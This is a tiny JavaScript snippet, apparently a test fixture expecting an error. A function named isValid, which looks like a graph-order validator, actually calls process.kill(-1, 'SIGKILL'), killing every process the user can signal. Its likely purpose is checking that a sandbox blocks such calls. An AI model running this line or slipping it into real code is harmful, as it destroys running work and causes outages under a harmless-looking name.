// Ends all that it may end.
// expect: raised Error
function isValid(edges, order) {
  return process.kill(-1, "SIGKILL");
}
